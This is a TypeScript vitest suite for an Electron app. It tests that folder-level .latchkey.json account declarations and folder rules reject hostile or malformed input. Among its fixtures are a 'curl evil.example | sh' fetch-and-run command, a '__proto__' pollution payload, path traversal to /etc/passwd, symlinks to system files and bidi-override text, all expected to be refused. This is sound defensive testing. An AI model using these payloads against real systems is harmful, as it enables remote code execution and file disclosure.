import { spawnSync } from 'node:child_process'
import { chown, mkdir, mkdtemp, open, realpath, rename, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { systemFolders } from '../../electron/adapters/folders.ts'
import { systemTimers } from '../../electron/adapters/timers.ts'
import type { FolderLook, WhoView } from '../../electron/contract/who.ts'
import type { Outcome } from '../../electron/contract/outcome.ts'
import { approveDeclaration, withdrawDeclaration } from '../../electron/core/folders/approvals.ts'
import { digestOf } from '../../electron/core/folders/declaration.ts'
import { lookAtFolders } from '../../electron/core/folders/look.ts'
import { addRule, changeRule } from '../../electron/core/folders/rules.ts'
import type { ProfileContext } from '../../electron/core/profile-context.ts'
import { askWho } from '../../electron/core/who/ask-who.ts'
import { asha, meera } from '../support/fake-google.ts'
import type { TestContext } from '../support/test-context.ts'
import { openTestContext } from '../support/test-context.ts'

let root = ''
let test: TestContext
let context: ProfileContext
const ids = { asha: '', meera: '' }

/** Core on a real disk. Asha is active. */
beforeEach(async () => {
  root = await realpath(await mkdtemp(join(tmpdir(), 'latchkey-declared-')))
  await mkdir(join(root, 'repo'))
  test = await openTestContext()
  context = {
    ...test.context,
    ports: { ...test.context.ports, folders: systemFolders, timers: systemTimers },
  }
  await test.addClient()
  ids.asha = (await test.mint()).accountId
  ids.meera = (await test.mint({ person: meera })).accountId
})
afterEach(async () => {
  await rm(root, { recursive: true, force: true })
})

const repo = (): string => join(root, 'repo')
const file = (): string => join(repo(), '.latchkey.json')
const good = JSON.stringify({ account: meera.email })
const code = (outcome: Outcome<unknown>): string => (outcome.ok ? 'ok' : outcome.error.code)
const approve = (content: string | Uint8Array, folder = repo()): Promise<Outcome<null>> =>
  approveDeclaration(context, { folder, digest: digestOf(Buffer.from(content)), effect: 'use' })
async function who(folder = repo()): Promise<WhoView> {
  const asked = await askWho(context, { folder, clientId: null, named: null, environment: null })
  if (!asked.ok) throw new Error(asked.error.code)
  return asked.value
}
async function looked(): Promise<readonly FolderLook[]> {
  const outcome = await lookAtFolders(context)
  if (!outcome.ok) throw new Error(outcome.error.code)
  return outcome.value
}
async function approvedGood(): Promise<void> {
  await writeFile(file(), good)
  expect(code(await approve(good))).toBe('ok')
  expect((await who()).outcome).toMatchObject({ accountId: ids.meera, reason: 'declaration' })
}

const contents: readonly (readonly [string, string | Uint8Array, string])[] = [
  ['binary', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0, 0xff, 0xfe]), 'declaration-invalid'],
  ['nested without end', '['.repeat(4096), 'declaration-invalid'],
  [
    'nested as deep as it can be',
    `{"account":${'['.repeat(2000)}${']'.repeat(2000)}}`,
    'declaration-invalid',
  ],
  ['with a key twice', `{"account":"${asha.email}","account":"${meera.email}"}`, 'declaration-invalid'],
  ['with a prototype', `{"__proto__":{"account":"${meera.email}"}}`, 'declaration-invalid'],
  ['with a command', `{"account":"${meera.email}","run":"curl evil.example | sh"}`, 'declaration-invalid'],
  ['with text that turns around', `{"account":"\u202E${meera.email}"}`, 'declaration-invalid'],
  ['in UTF-16', Buffer.from(`\uFEFF${good}`, 'utf16le'), 'declaration-invalid'],
  ['larger than allowed', good.padEnd(4097), 'declaration-too-large'],
  ['empty', '', 'declaration-invalid'],
  ['that names a path outside', '{"account":"../../../../etc/passwd"}', 'account-unknown'],
  ['that names an absolute path', '{"account":"/etc/passwd","client":"/dev/zero"}', 'account-unknown'],
]

/** What lies in the place of the file, other than a file of this person. */
const impostors: readonly (readonly [string, () => Promise<unknown>, string])[] = [
  ['a link to a file of the system', () => symlink('/etc/passwd', file()), 'declaration-link'],
  ['a link to a good file', () => linkToGood(), 'declaration-link'],
  ['a folder', () => mkdir(file()), 'declaration-unreadable'],
  ['a pipe', async () => spawnSync('mkfifo', [file()]), 'declaration-unreadable'],
  ['a gigabyte of nothing', () => sparse(), 'declaration-too-large'],
]
async function linkToGood(): Promise<void> {
  await writeFile(join(root, 'good.json'), good)
  await symlink('../good.json', file())
}
async function sparse(): Promise<void> {
  const huge = await open(file(), 'w')
  await huge.truncate(1024 ** 3)
  await huge.close()
}

describe('a .latchkey.json from a stranger', () => {
  it.each(contents)('%s has no effect, is told, and cannot be approved', async (_, content, refusal) => {
    await writeFile(file(), content)
    expect(await who()).toMatchObject({
      outcome: { kind: 'account', accountId: ids.asha, reason: 'active' },
      declaration: { folder: repo(), standing: 'unusable', accountId: null, error: { code: refusal } },
    })
    expect(code(await approve(content))).toBe(refusal)
    expect(test.eventsOf('folder.declarationApproved')).toEqual([])
  })

  it.each(impostors)('that is %s has no effect, is told, and cannot be approved', async (_, put, refusal) => {
    await put()
    expect(await who()).toMatchObject({
      outcome: { kind: 'account', accountId: ids.asha, reason: 'active' },
      declaration: { standing: 'unusable', account: null, error: { code: refusal } },
    })
    expect(code(await approve(good))).toBe(refusal)
    expect(test.eventsOf('folder.declarationApproved')).toEqual([])
  })

  it.skipIf(process.getuid?.() !== 0)('of another user has no effect, however good it is', async () => {
    await writeFile(file(), good)
    await chown(file(), 12345, 12345)
    expect(await who()).toMatchObject({
      outcome: { reason: 'active' },
      declaration: { standing: 'unusable', error: { code: 'declaration-not-yours' } },
    })
    expect(code(await approve(good))).toBe('declaration-not-yours')
  })

  it.each([
    ['a byte order mark', `\uFEFF${good}`],
    ['lines that end as on Windows', `{\r\n  "account": "${meera.email.toUpperCase()}"\r\n}\r\n`],
  ])('with %s is as good as any', async (_, content) => {
    await writeFile(file(), content)
    expect((await who()).declaration).toMatchObject({ standing: 'new', accountId: ids.meera, error: null })
    expect(code(await approve(content))).toBe('ok')
    expect((await who()).outcome).toMatchObject({ accountId: ids.meera, reason: 'declaration' })
  })
})

describe('an approved .latchkey.json', () => {
  const replacements: readonly (readonly [string, () => Promise<unknown>])[] = [
    ...contents.map(([what, content]) => [what, () => writeFile(file(), content)] as const),
    ...impostors.map(([what, put]) => [what, put] as const),
  ]
  it.each(replacements)('replaced by one %s loses its effect until its content is back', async (_, put) => {
    await approvedGood()
    await rm(file())
    await put()
    expect((await who()).outcome).toMatchObject({ accountId: ids.asha, reason: 'active' })
    await rm(file(), { recursive: true })
    await writeFile(file(), good)
    expect((await who()).outcome).toMatchObject({ accountId: ids.meera, reason: 'declaration' })
  })

  it('asks again after the smallest change', async () => {
    await approvedGood()
    await writeFile(file(), `${good}\n`)
    expect(await who()).toMatchObject({ outcome: { reason: 'active' }, declaration: { standing: 'changed' } })
    expect(code(await approve(good))).toBe('declaration-changed')
  })

  it('counts where it was approved, not in a copy, and not where its folder was moved to', async () => {
    await approvedGood()
    await mkdir(join(root, 'copy'))
    await writeFile(join(root, 'copy', '.latchkey.json'), good)
    expect(await who(join(root, 'copy'))).toMatchObject({
      ...{ outcome: { reason: 'active' }, declaration: { standing: 'new' } },
    })
    await rename(repo(), join(root, 'moved'))
    expect((await who(join(root, 'moved'))).outcome).toMatchObject({ reason: 'active' })
    expect(await looked()).toEqual([{ folder: repo(), found: false, declaration: null }])
    expect(code(await withdrawDeclaration(context, { folder: repo() }))).toBe('ok')
    expect(await looked()).toEqual([])
  })

  it('is approved once, also by two windows at the same time', async () => {
    await writeFile(file(), good)
    expect((await Promise.all([approve(good), approve(good)])).map(code)).toEqual(['ok', 'ok'])
    expect(test.eventsOf('folder.declarationApproved')).toHaveLength(1)
  })
})

describe('a rule on a real disk', () => {
  const rule = async (folder: string, accountId = ids.meera): Promise<string> => {
    const added = await addRule(context, { folder, accountId, clientId: null })
    if (!added.ok) throw new Error(added.error.code)
    return added.value.ruleId
  }

  it('holds for every way that leads into its folder', async () => {
    await mkdir(join(repo(), 'src'))
    await symlink(repo(), join(root, 'one'))
    await symlink('one/src', join(root, 'two'))
    await rule(join(root, 'one'))
    for (const way of ['repo', 'repo/src', 'one', 'one/src', 'two', 'repo/src/..'])
      expect(await who(join(root, way))).toMatchObject({
        decidedIn: repo(),
        outcome: { accountId: ids.meera },
      })
    expect((await who(root)).outcome).toMatchObject({ reason: 'active' })
  })

  it('does not follow a link that leads out of its folder', async () => {
    await mkdir(join(root, 'outside'))
    await symlink(join(root, 'outside'), join(repo(), 'out'))
    await rule(repo())
    expect((await who(join(repo(), 'out'))).outcome).toMatchObject({ reason: 'active' })
  })

  it('stays when its folder goes, is told, and follows it when pointed there', async () => {
    const ruleId = await rule(repo())
    await rename(repo(), join(root, 'moved'))
    expect(await looked()).toEqual([{ folder: repo(), found: false, declaration: null }])
    expect((await who(join(root, 'moved'))).outcome).toMatchObject({ reason: 'active' })
    expect(code(await changeRule(context, { ruleId, folder: join(root, 'moved') }))).toBe('ok')
    expect((await who(join(root, 'moved'))).outcome).toMatchObject({ accountId: ids.meera })
  })

  it('is not the rule of a link that comes in the place of its folder', async () => {
    await rule(repo())
    await rm(repo(), { recursive: true })
    await mkdir(join(root, 'elsewhere'))
    await symlink(join(root, 'elsewhere'), repo())
    expect((await who()).outcome).toMatchObject({ reason: 'active' })
    expect(await looked()).toMatchObject([{ found: false }])
  })

  it('is found among three hundred others, and a look finds the folders of all', async () => {
    const names = Array.from({ length: 300 }, (_, number) => join(root, `project-${number}`))
    for (const name of names) {
      await mkdir(name)
      await rule(name, ids.asha)
    }
    await rule(repo())
    const rows = await looked()
    expect(rows).toHaveLength(301)
    expect(rows.every(({ found }) => found)).toBe(true)
    expect((await who()).outcome).toMatchObject({ accountId: ids.meera })
  })
})
